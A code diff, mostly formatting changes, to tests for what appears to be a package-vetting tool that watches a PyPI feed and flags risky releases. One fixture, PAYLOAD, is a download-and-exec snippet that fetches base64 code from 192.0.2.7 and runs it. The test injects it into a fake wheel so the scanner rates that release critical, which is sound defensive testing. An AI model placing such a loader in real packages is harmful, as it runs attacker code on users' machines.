@@ -13,12 +13,12 @@ from app.workflows.feed import FeedState, parse_rss
 from tests.core.registry.archives import make_sdist, make_wheel
 from tests.core.registry.servers import FIXTURES
 
-PAYLOAD = '''import base64, urllib.request
+PAYLOAD = """import base64, urllib.request
 def _init():
     data = urllib.request.urlopen("http://192.0.2.7/p").read()
     exec(base64.b64decode(data))
 _init()
-'''
+"""
 
 
 def test_parse_updates_and_newest_packages_feeds():
@@ -54,7 +54,9 @@ def test_state_file_survives_and_is_capped(tmp_path):
 def _feed(items: list[tuple[str, str]]) -> bytes:
     body = "".join(
         f"<item><title>{n} {v}</title><link>https://pypi.org/project/{n}/{v}/</link>"
-        f"<pubDate>Mon, 06 Jan 2025 00:00:00 GMT</pubDate></item>" for n, v in items)
+        f"<pubDate>Mon, 06 Jan 2025 00:00:00 GMT</pubDate></item>"
+        for n, v in items
+    )
     return f'<?xml version="1.0"?><rss version="2.0"><channel>{body}</channel></rss>'.encode()
 
 
@@ -62,17 +64,40 @@ def _feed(items: list[tuple[str, str]]) -> bytes:
 def test_watch_feed_once_queues_only_risky_releases(replay, tmp_path, capsys, monkeypatch):
     monkeypatch.setenv("VETBENCH_CACHE_DIR", str(tmp_path / "cache"))
     replay.load_pypi("six")
-    replay.add_project("demo-feed", {
-        "1.0": {"demo_feed-1.0.tar.gz": make_sdist("demo-feed", "1.0"),
-                "demo_feed-1.0-py3-none-any.whl": make_wheel("demo-feed", "1.0")},
-        "1.1": {"demo_feed-1.1.tar.gz": make_sdist("demo-feed", "1.1"),
-                "demo_feed-1.1-py3-none-any.whl": make_wheel("demo-feed", "1.1", extra_code=PAYLOAD)},
-    })
-    replay.rss["/rss/updates.xml"] = _feed([("demo-feed", "1.1"), ("six", "1.17.0"),
-                                            ("gone-project", "0.1")])
+    replay.add_project(
+        "demo-feed",
+        {
+            "1.0": {
+                "demo_feed-1.0.tar.gz": make_sdist("demo-feed", "1.0"),
+                "demo_feed-1.0-py3-none-any.whl": make_wheel("demo-feed", "1.0"),
+            },
+            "1.1": {
+                "demo_feed-1.1.tar.gz": make_sdist("demo-feed", "1.1"),
+                "demo_feed-1.1-py3-none-any.whl": make_wheel(
+                    "demo-feed", "1.1", extra_code=PAYLOAD
+                ),
+            },
+        },
+    )
+    replay.rss["/rss/updates.xml"] = _feed(
+        [("demo-feed", "1.1"), ("six", "1.17.0"), ("gone-project", "0.1")]
+    )
     db, state = tmp_path / "store.sqlite3", tmp_path / "state.json"
-    argv = ["watch-feed", "--once", "--url", f"{replay.base}/rss/updates.xml", "--index", replay.base,
-            "--min-level", "high", "--state", str(state), "--db", str(db), "--json"]
+    argv = [
+        "watch-feed",
+        "--once",
+        "--url",
+        f"{replay.base}/rss/updates.xml",
+        "--index",
+        replay.base,
+        "--min-level",
+        "high",
+        "--state",
+        str(state),
+        "--db",
+        str(db),
+        "--json",
+    ]
     assert main(argv) == 0
     out, err = capsys.readouterr()
     reviews = {r["name"]: r for r in map(json.loads, out.splitlines())}
@@ -84,7 +109,8 @@ def test_watch_feed_once_queues_only_risky_releases(replay, tmp_path, capsys, mo
     with Store.open(db) as store:
         items = store.list_items()
         assert [(i.project, i.versions, i.source, i.risk_level) for i in items] == [
-            ("demo-feed", ("1.1",), "feed", "critical")]
+            ("demo-feed", ("1.1",), "feed", "critical")
+        ]
         roles = sorted((a.role, a.version) for a in store.artifacts_for(items[0].id))
         assert roles == [("baseline", "1.0"), ("baseline", "1.0"), ("new", "1.1"), ("new", "1.1")]
     # a second poll reviews nothing new
@@ -95,8 +121,17 @@ def test_watch_feed_once_queues_only_risky_releases(replay, tmp_path, capsys, mo
 @pytest.mark.network
 def test_watch_feed_unreadable_feed_is_one_clear_error(replay, tmp_path, capsys, monkeypatch):
     monkeypatch.setenv("VETBENCH_HTTP_RETRIES", "0")
-    code = main(["watch-feed", "--once", "--url", f"{replay.base}/rss/missing.xml",
-                 "--state", str(tmp_path / "s.json"), "--no-queue"])
+    code = main(
+        [
+            "watch-feed",
+            "--once",
+            "--url",
+            f"{replay.base}/rss/missing.xml",
+            "--state",
+            str(tmp_path / "s.json"),
+            "--no-queue",
+        ]
+    )
     err = capsys.readouterr().err
     assert code == 2
     assert err.strip().splitlines()[-1].startswith("vetbench: no feed could be read")
